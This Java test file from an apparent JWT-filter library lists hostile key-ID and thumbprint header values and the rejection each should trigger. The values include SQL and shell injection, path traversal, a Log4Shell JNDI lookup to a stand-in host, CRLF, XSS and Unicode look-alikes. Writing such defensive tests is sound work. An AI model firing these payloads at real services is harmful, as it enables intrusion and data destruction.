package io.github.jwtfilter.attack;

import static io.github.jwtfilter.RejectionReason.BAD_SIGNATURE;
import static io.github.jwtfilter.RejectionReason.MALFORMED_KEY_ID;
import static io.github.jwtfilter.RejectionReason.UNKNOWN_KEY;
import static io.github.jwtfilter.RejectionReason.UNSUITABLE_KEY;

import io.github.jwtfilter.RejectionReason;
import java.util.List;
import java.util.Locale;

/** {@code kid} and {@code x5t}: values that are not strings or too long, injections, IDs of other keys. Correctly signed. */
final class KeyIdAttacks {
    private static final List<String> NO_STRINGS = List.of(
            "null",
            "0",
            "1",
            "-1",
            "1.5",
            "1e999999999",
            "true",
            "false",
            "[]",
            "[\"rsa-2048\"]",
            "{}",
            "{\"kid\":\"rsa-2048\"}");
    private static final List<String> INJECTIONS = List.of(
            "",
            " ",
            "mallory-key",
            "../../../../../../dev/null",
            "..\\..\\windows\\win.ini",
            "/proc/sys/kernel/randomize_va_space",
            "file:///dev/null",
            "https://mallory.example.test/key",
            "rsa-2048' OR '1'='1",
            "x' UNION SELECT 'mallory';--",
            "rsa-2048\"; DROP TABLE keys; --",
            "$(id)",
            "`id`",
            "| id",
            "; id",
            "&& id",
            "${jndi:ldap://mallory.example.test/a}",
            "#{7*7}",
            "${7*7}",
            "{{7*7}}",
            "%00",
            "\0",
            "rsa-2048\0",
            "rsa-2048\0.pem",
            "rsa-2048\n",
            "rsa-2048\r\nX-Mallory: 1",
            "\r\nmallory",
            "<script>alert(1)</script>",
            "RSA-2048",
            "rsa-204",
            "rsa-20488",
            " rsa-2048",
            "rsa-2048 ",
            "rsa\u20102048",
            "\u0280sa-2048",
            "rsa-\uff12048",
            "rsa-2048\u200b",
            "rsa-2048,rsa-of-another",
            "rsa-*",
            "*",
            "%",
            "_",
            ".*",
            "null",
            "undefined",
            "0",
            "[object Object]",
            "keys[0]",
            "__proto__",
            "constructor",
            "toString",
            "hashCode",
            "\ud83d\ude00",
            "\ufeffrsa-2048",
            "rsa%2d2048",
            "cnNhLTIwNDg");

    private KeyIdAttacks() {}

    static AttackTable table() {
        AttackTable table = new AttackTable("key ID");
        addMalformed(table);
        INJECTIONS.forEach(keyId -> add(table, "kid text " + keyId, header().withText("kid", keyId), UNKNOWN_KEY));
        add(table, "kid of 256 characters", header().withText("kid", "m".repeat(256)), UNKNOWN_KEY);
        add(table, "kid of 257 characters", header().withText("kid", "m".repeat(257)), MALFORMED_KEY_ID);
        add(table, "kid of 4,000 characters", header().withText("kid", "m".repeat(4000)), MALFORMED_KEY_ID);
        add(
                table,
                "kid of 257 escaped characters",
                header().with("kid", "\"" + "\\u006d".repeat(257) + "\""),
                MALFORMED_KEY_ID);
        add(table, "kid of another RSA key", header().withText("kid", "rsa-of-another"), BAD_SIGNATURE);
        add(table, "kid of an EC key", header().withText("kid", "ec-256"), UNSUITABLE_KEY);
        addThumbprints(table);
        return table;
    }

    private static void addMalformed(AttackTable table) {
        for (String json : NO_STRINGS) {
            for (String name : List.of("kid", "x5t", "x5t#S256")) {
                Members header = header().with(name, json);
                add(table, name + " " + json, header, MALFORMED_KEY_ID);
                table.add(
                        name + " " + json,
                        Targets.PEM,
                        Tokens.signed(header, Members.claims().withText("at", "pem"), KeyRing.OWN.signer("RS256")),
                        MALFORMED_KEY_ID);
            }
        }
    }

    private static void addThumbprints(AttackTable table) {
        String own = "nHWJ5rQO3C4G1c5LvYuQz1b2kWY";
        for (String thumbprint : List.of(
                "",
                "mallory",
                own.toLowerCase(Locale.ROOT),
                own + "=",
                own.substring(1),
                " " + own,
                "AAAAAAAAAAAAAAAAAAAAAAAAAAA",
                "9c7589e6b40edc2e06d5ce4bbd8b90cf56f69166")) {
            add(table, "x5t " + thumbprint, header().withText("x5t", thumbprint), UNKNOWN_KEY);
            add(table, "x5t#S256 " + thumbprint, header().withText("x5t#S256", thumbprint), UNKNOWN_KEY);
        }
        add(table, "x5t of 257 characters", header().withText("x5t", "m".repeat(257)), MALFORMED_KEY_ID);
        add(table, "x5t#S256 of 257 characters", header().withText("x5t#S256", "m".repeat(257)), MALFORMED_KEY_ID);
        add(
                table,
                "x5t of the key with an unknown kid",
                header().withText("x5t", own).withText("kid", "mallory"),
                UNKNOWN_KEY);
        add(table, "x5t under the name of x5t#S256", header().withText("x5t#S256", own), UNKNOWN_KEY);
        Members es256 = Members.header("ES256").withText("x5t", own);
        String token = Tokens.signed(es256, Members.claims(), KeyRing.OWN.signer("ES256"));
        table.add("x5t of a key of another type", Targets.JWKS, token, UNSUITABLE_KEY);
        String forged =
                Tokens.signed(header().withText("x5t", own), Members.claims(), KeyRing.ATTACKER.signer("RS256"));
        table.add("x5t of the key by the attacker's key", Targets.JWKS, forged, BAD_SIGNATURE);
    }

    private static Members header() {
        return Members.header("RS256");
    }

    private static void add(AttackTable table, String name, Members header, RejectionReason expected) {
        String token = Tokens.signed(header, Members.claims(), KeyRing.OWN.signer("RS256"));
        table.add(Members.quote(name), Targets.JWKS, token, expected);
    }
}
